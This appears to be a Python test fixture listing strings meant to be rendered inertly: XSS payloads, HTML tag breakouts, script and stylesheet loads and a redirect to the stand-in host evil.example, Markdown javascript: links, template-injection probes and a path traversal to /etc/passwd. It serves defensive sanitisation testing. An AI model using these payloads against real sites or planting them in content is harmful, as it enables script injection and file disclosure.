"""Texts that would be markup if anything took them for it: HTML, Markdown, LaTeX, paths, controls."""

from __future__ import annotations

ATTACKS = (
    # Scripts and handlers
    "<script>window.hit=1</script>", "<ScRiPt>window.hit=1</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.hit=1>", "<img/src='x'/onerror='window.hit=1'>", "<svg onload=window.hit=1>",
    "'><svg/onload=window.hit=1>", "\"><img src=x onerror=window.hit=1>", "\" autofocus onfocus=window.hit=1 x=\"",
    "' onmouseover='window.hit=1", "<body onload=window.hit=1>", "<details open ontoggle=window.hit=1>x</details>",
    "<video><source onerror=window.hit=1></video>", "<audio src=x onerror=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>", "<select autofocus onfocus=window.hit=1>",
    "<marquee onstart=window.hit=1>",
    "<a href='javascript:window.hit=1'>x</a>", "<a href='data:text/html,<script>1</script>'>x</a>",
    "<a href=' &#106;avascript:window.hit=1'>x</a>", "<iframe src=javascript:window.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>", "<object data=javascript:window.hit=1></object>",
    "<embed src=javascript:window.hit=1>", "<form action=javascript:window.hit=1><button>x</button></form>",
    "<math><mtext></p><img src=x onerror=window.hit=1>", "<template><script>window.hit=1</script></template>",
    # Leaving the place one stands in
    "</div></div><h1>gone</h1>", "</title><script>window.hit=1</script>", "</style><b>x</b>",
    "</textarea><svg onload=window.hit=1>",
    "--><svg onload=window.hit=1>", "<!-- x -->", "]]><svg onload=window.hit=1>", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>", "&lt;script&gt;window.hit=1&lt;/script&gt;", "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\\x3cscript\\x3ewindow.hit=1", "<<script>window.hit=1//<</script>",
    # Markdown
    "[click](javascript:window.hit=1)", "[click](http://evil.example)", "![x](http://evil.example/x.png)",
    "<http://evil.example/x>", "[x]: javascript:window.hit=1\n[x]",
    "# heading", "> quote", "- item", "1. one", "| a | b |",
    "`</code><script>window.hit=1</script>`", "**bold** _it_ ~~gone~~", "---\nlayout: x",
    "a\n# b", ":material/home: :red[x]",
    # LaTeX, templates, paths, controls
    "$\\href{javascript:window.hit=1}{x}$", "$$\\def\\x{\\x}\\x$$", "{{7*7}} ${7*7} <%= 7*7 %>", "../../etc/passwd",
    "C:\\x\\..\\y", "\u202eabc", "\x1b[31mred", "a\x00b",
)  # fmt: skip
